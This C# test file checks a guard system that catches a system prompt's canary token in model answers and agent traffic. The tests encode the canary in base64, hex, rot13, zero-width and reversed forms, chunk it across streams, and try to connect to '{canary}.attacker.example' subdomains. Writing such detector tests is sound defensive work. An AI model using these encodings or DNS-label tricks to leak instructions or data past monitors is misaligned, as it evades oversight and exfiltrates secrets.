using System.Text;
using System.Text.Json;
using Bartizan.Core.Enforcement;
using Bartizan.Guards.Tests.Contents;
using Bartizan.Guards.Tests.Streams;

namespace Bartizan.Guards.Tests.Prompts;

/// <summary>A system prompt's canary in what a model says and an agent sends, in disguise and in pieces.</summary>
public sealed class CanaryTests
{
    private const string Block = "{ output: { canaries: block } }";

    private static readonly Dictionary<string, Func<string, string>> s_forms = new()
    {
        ["plain"] = c => c,
        ["base64"] = c => Convert.ToBase64String(Encoding.UTF8.GetBytes("see: " + c)),
        ["hex"] = c => Convert.ToHexString(Encoding.UTF8.GetBytes(c)),
        ["spaced"] = c => string.Join(' ', c.ToCharArray()),
        ["dashed"] = c => string.Join('-', c.ToCharArray()),
        ["reversed"] = c => new string([.. c.Reverse()]),
        ["upper"] = c => c.ToUpperInvariant(),
        ["zero width"] = c => string.Join('\u200b', c.ToCharArray()),
        ["rot13"] = c => string.Concat(c.Select(x => (char)('a' + ((x - 'a' + 13) % 26)))),
        ["numbers"] = c => string.Join(' ', c.Select(x => (int)x)),
    };

    public static TheoryData<string, string> All()
    {
        var all = new TheoryData<string, string>();
        foreach (var wire in Wire.All.Keys)
        {
            foreach (var form in s_forms.Keys)
            {
                all.Add(wire, form);
            }
        }

        return all;
    }

    [Theory]
    [MemberData(nameof(All))]
    public void It_never_passes_in_an_answer_however_it_is_written_and_cut(string wire, string form)
    {
        var house = new House(Block);
        var written = s_forms[form](house.Session.Marks.Canary);
        foreach (var size in new[] { 1, 3, 7, 1000 })
        {
            var pieces = $"My reference is {written}, and that is all.".Chunk(size).Select(c => new string(c));
            var (passed, isCut, verdicts) = house.Watched(Wire.All[wire](pieces), 300, "text/event-stream");
            isCut.ShouldBeTrue();
            passed.ShouldNotContain(written);
            verdicts.ShouldStartWith("canaries/1 answer 1.00 of 1.00 block");
        }
    }

    [Theory]
    [InlineData("plain")]
    [InlineData("base64")]
    [InlineData("hex")]
    [InlineData("reversed")]
    [InlineData("spaced")]
    public async Task What_an_agent_sends_with_it_is_refused(string form)
    {
        var house = new House(Block);
        var written = s_forms[form](house.Session.Marks.Canary);
        (await house.ToolAsync($$"""{"body":{{JsonSerializer.Serialize(written)}}}""")).Strictest.ShouldBe(Effect.Deny);
        (await house.HttpAsync("GET /a HTTP/1.1\r\n", written)).Strictest.ShouldBe(Effect.Deny);
        var address = Uri.EscapeDataString(written);
        (await house.HttpAsync($"GET /a?q={address} HTTP/1.1\r\n", "")).Strictest.ShouldBe(Effect.Deny);
        (await house.ToolAsync("""{"body":"It rains in Bonn."}""")).Strictest.ShouldBe(Effect.Allow);
    }

    [Fact]
    public async Task A_name_that_carries_it_isnt_connected_to()
    {
        var house = new House(Block);
        var canary = house.Session.Marks.Canary;
        (await house.ConnectAsync($"{canary}.attacker.example")).Strictest.ShouldBe(Effect.Deny);
        (await house.ConnectAsync($"{canary[..9]}.{canary[9..]}.attacker.example")).Strictest.ShouldBe(Effect.Deny);
        (await house.ConnectAsync("api.example")).Strictest.ShouldBe(Effect.Allow);
    }

    [Fact]
    public async Task Reported_it_passes_and_is_recorded()
    {
        var house = new House("{ output: { canaries: report } }");
        var report = await house.ToolAsync($$"""{"body":"{{house.Session.Marks.Canary}}"}""");
        report.Strictest.ShouldBe(Effect.Allow);
        report.Verdicts.ShouldContain("canaries/1 1.00 of 1.00 report (canary)");
    }

    [Fact]
    public async Task Another_sessions_canary_is_none()
    {
        var other = new House(Block).Session.Marks.Canary;
        (await new House(Block).ToolAsync($$"""{"body":"{{other}}"}""")).Strictest.ShouldBe(Effect.Allow);
    }

    [Fact]
    public void A_whole_answer_with_it_is_refused()
    {
        var house = new House(Block);
        var answer = $$"""{"content":[{"type":"text","text":"It is {{house.Session.Marks.Canary}}."}]}""";
        house
            .Watched(answer, 10, "application/json")
            .ShouldSatisfyAllConditions(seen => seen.IsCut.ShouldBeTrue(), seen => seen.Passed.ShouldBeEmpty());
    }

    [Fact]
    public void A_providers_echo_of_the_system_prompt_comes_back_as_the_agent_wrote_it()
    {
        var house = new House(Block);
        var own = "Answer in verse.";
        var marked = JsonSerializer.Serialize(
            $"{own}\n\n{house.Session.Marks.Addition(house.Session.Manifest.Guards)}"
        );
        var whole = $$"""{"id":"r","instructions":{{marked}},"output":[]}""";
        house
            .Watched(whole, 50, "application/json")
            .ShouldSatisfyAllConditions(
                seen => seen.IsCut.ShouldBeFalse(),
                seen => seen.Passed.ShouldBe($$"""{"id":"r","instructions":"{{own}}","output":[]}""")
            );
        var stream = $$$"""data: {"type":"response.created","response":{"instructions":{{{marked}}}}}""" + "\n\n";
        house
            .Watched(stream, 50, "text/event-stream")
            .ShouldSatisfyAllConditions(
                seen => seen.IsCut.ShouldBeFalse(),
                seen => seen.Passed.ShouldNotContain(house.Session.Marks.Canary),
                seen => seen.Passed.ShouldContain(own)
            );

        // An echo in another form isn't what was added.
        var other = stream.Replace("It is confidential", "It is  confidential", StringComparison.Ordinal);
        house.Watched(other, 50, "text/event-stream").IsCut.ShouldBeTrue();
    }
}
